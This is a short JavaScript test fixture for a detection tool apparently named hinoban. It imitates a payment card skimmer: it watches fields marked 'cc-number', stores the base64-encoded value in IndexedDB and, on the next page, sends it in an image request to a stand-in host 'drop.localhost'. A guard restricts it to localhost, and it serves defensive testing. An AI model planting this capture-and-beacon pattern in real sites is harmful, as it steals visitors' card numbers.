/* Harmless imitation, for hinoban's tests: kept in IndexedDB, sent from the next page. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var open = indexedDB.open('cfg', 1);
	open.onupgradeneeded = function () { open.result.createObjectStore('k'); };
	open.onsuccess = function () {
		var db = open.result, get = db.transaction('k').objectStore('k').get(1);
		get.onsuccess = function () {
			if (get.result) new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?i=' + get.result;
		};
		document.addEventListener('change', function (e) {
			if (e.target.autocomplete === 'cc-number') db.transaction('k', 'readwrite').objectStore('k').put(btoa(e.target.value), 1);
		});
	};
})();
